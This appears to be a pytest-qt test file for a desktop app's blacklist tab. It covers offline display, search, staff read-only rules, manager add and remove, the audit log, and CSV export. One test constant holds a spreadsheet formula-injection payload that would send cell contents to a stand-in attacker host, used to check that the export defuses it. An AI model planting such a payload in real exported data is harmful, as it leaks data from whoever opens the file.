"""The Blacklist tab: from the cache with its "as of" (offline too), searchable, read-only for
staff; managers add (reason required), remove and export a guarded CSV; the audit log shows it.

One coroutine per scenario against the loopback sandbox (see tests/ui/editing.py).
"""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import qasync
from PySide6.QtCore import Qt
from PySide6.QtGui import QTextDocument
from pytestqt.qtbot import QtBot

from app.domain.text import fold
from app.sandbox.faults import Faults
from app.sandbox.runner import ThreadedSandbox
from app.vendors.reservations import ReservationsClient
from tests.ui.conftest import run, until
from tests.ui.editing import BLACKLISTED, OTHER, EditDesk, edit_desk
from ui.blacklist_view import BlacklistView

REASON = '=HYPERLINK("http://evil.example/?"&A1,"click") <b>loud</b>'


def view_of(desk: EditDesk) -> BlacklistView:
    view = desk.window.blacklist_view
    assert view is not None
    return view


def blacklisted_on_server(desk: EditDesk) -> dict[str, str]:
    async def read(client: ReservationsClient) -> dict[str, str]:
        return {row.id: row.blacklist_reason or "" for row in await client.blacklisted()}

    result: dict[str, str] = desk.on_reservations(read)
    return result


def test_the_blacklist_works_offline_with_its_as_of_search_and_is_read_only_for_staff(
        qtbot: QtBot, qloop: qasync.QEventLoop, edit_vendors: ThreadedSandbox,
        edit_synced: Any, tmp_path: Path) -> None:
    async def scenario() -> None:
        async with edit_desk(qtbot, edit_vendors, edit_synced, tmp_path) as desk:
            edit_vendors.call(edit_vendors.sandbox.stop())  # every vendor is down
            report = await desk.engine.run()  # a sync that finds them down
            assert not report.ok
            view = view_of(desk)
            qtbot.keyClick(desk.window.focusWidget() or desk.window, Qt.Key.Key_B,
                           Qt.KeyboardModifier.ControlModifier)
            assert desk.window.tabs.currentWidget() is view and view.search.hasFocus()
            await view.idle()
            assert view.as_of.text().startswith("⚠ reservations offline since ")
            assert "showing the blacklist as of " in view.as_of.text()
            expected = desk.query("SELECT name, blacklist_reason FROM records WHERE "
                                  "vendor = 'reservations' AND blacklisted = 1")
            assert len(expected) > 3
            assert sorted(view.shown_names()) == sorted(r[0] for r in expected)
            assert view.count.text() == f"{len(expected)} entries"
            person = desk.person(BLACKLISTED)
            row = view.shown_names().index(person.full_name)
            assert view.model.text(row, 2) == person.blacklist_reason
            assert "@" in view.model.text(row, 1) and "•" in view.model.text(row, 1)  # masked

            # The search filters as you type: a name (accents ignored), or a reason.
            qtbot.keyClicks(view.search, "priya hernandez")
            assert view.shown_names() == [person.full_name]
            assert view.count.text() == f"1 of {len(expected)} entries shown"
            view.search.clear()
            qtbot.keyClicks(view.search, "SHOPLIFTING")
            shoplifters = [r for r in expected if "shoplifting" in fold(r[1])]
            assert len(view.shown_names()) == len(shoplifters) > 0

            # Staff read it: no add, remove or export, and asking anyway changes nothing.
            assert view.read_only.isVisible() and view.unlock_button.isVisible()
            for button in (view.add_button, view.remove_button, view.export_button):
                assert not button.isVisible()
            view.open_add()
            assert view.form.isHidden()
            assert view.message.text().startswith("Only managers change or export")
            view.export_to(tmp_path / "staff.csv")
            await view.idle()
            assert not (tmp_path / "staff.csv").exists()
            assert await desk.audit_actions() == []

    run(qloop, scenario(), timeout=60)


def test_a_manager_adds_with_a_reason_removes_and_exports_a_guarded_csv(
        qtbot: QtBot, qloop: qasync.QEventLoop, edit_vendors: ThreadedSandbox,
        edit_synced: Any, tmp_path: Path) -> None:
    async def scenario() -> None:
        async with edit_desk(qtbot, edit_vendors, edit_synced, tmp_path) as desk:
            view = view_of(desk)
            person = desk.person(OTHER)
            rid = person.reservations_id
            assert rid is not None and rid not in blacklisted_on_server(desk)
            await desk.unlock()
            desk.window.show_blacklist()
            await view.idle()
            assert view.add_button.isVisible() and not view.read_only.isVisible()

            view.add_button.click()
            assert view.form.isVisible()
            hits = await view.picker.search(person.full_name)
            assert hits and hits[0].name == person.full_name
            qtbot.keyClick(view.picker.box, Qt.Key.Key_Return)  # pick the first
            assert view.chosen is not None and view.chosen.name == person.full_name
            qtbot.keyClicks(view.reason, "   ")
            qtbot.keyClick(view.reason, Qt.Key.Key_Return)
            await view.idle()
            assert view.message.text() == "A blacklist entry needs a reason: say what happened."
            assert await desk.open_edits() == [] and view.form.isVisible()

            desk.vendors.sandbox.servers["reservations"].faults = Faults(latency_ms=600)
            view.reason.setText(REASON)
            view.confirm_add.click()
            await view.idle()
            row = view.shown_names().index(person.full_name)
            assert view.model.text(row, 2) == REASON  # markup shown as typed
            assert view.model.text(row, 4) == "pending"
            tip = QTextDocument()  # the tooltip, as Qt renders it: the same text, literally
            tip.setHtml(str(view.model.data(view.model.index(row, 2),
                                            Qt.ItemDataRole.ToolTipRole)))
            assert tip.toPlainText() == REASON
            await desk.settled()
            desk.vendors.sandbox.servers["reservations"].faults = Faults()
            assert blacklisted_on_server(desk)[rid] == REASON
            await view.idle()
            row = view.shown_names().index(person.full_name)
            assert view.model.text(row, 4) == "confirmed"

            # Export: every shown row, formula cells defused, written whole, audited.
            target = tmp_path / "export" / "blacklist.csv"
            target.parent.mkdir()
            view.export_to(target)
            await view.idle()
            with target.open(encoding="utf-8-sig", newline="") as handle:
                rows = list(csv.DictReader(handle))
            assert len(rows) == len(view.model.rows)
            mine = next(r for r in rows if r["reservations_id"] == rid)
            assert mine["reason"] == "'" + REASON
            emails = json.loads(desk.query("SELECT emails FROM records WHERE vendor = "
                                           "'reservations' AND vendor_id = ?", rid)[0][0])
            assert emails and mine["emails"] == "; ".join(emails)  # in full for managers
            assert sorted(p.name for p in target.parent.iterdir()) == ["blacklist.csv"]
            assert view.message.text().startswith(f"Exported {len(rows)} entries to ")

            # Remove: asked inline first, then pending, then gone upstream.
            view.view.setCurrentIndex(view.model.index(row, 0))
            view.remove_button.click()
            assert view.remove_confirm.isVisible()
            assert person.full_name in view.remove_text.text()
            view.remove_yes.click()
            await view.idle()
            await desk.settled()
            assert rid not in blacklisted_on_server(desk)
            await view.idle()
            assert person.full_name not in view.shown_names()
            assert await desk.audit_actions() == ["blacklist.add", "blacklist.export",
                                                  "blacklist.remove"]

            # The audit tab, managers only, newest first.
            audit = desk.window.audit_view
            assert audit is not None
            desk.window.tabs.setCurrentWidget(audit)
            await audit.idle()
            assert [audit.model.text(r, 3) for r in range(3)] == [
                "blacklist.remove", "blacklist.export", "blacklist.add"]
            assert audit.model.text(0, 2) == "manager" and audit.model.text(0, 1) == "till-test"
            assert desk.window.gate is not None
            desk.window.gate.lock_now()
            assert audit.model.rowCount() == 0 and audit.locked.isVisible()
            await until(lambda: not view.add_button.isVisible())

    run(qloop, scenario(), timeout=60)
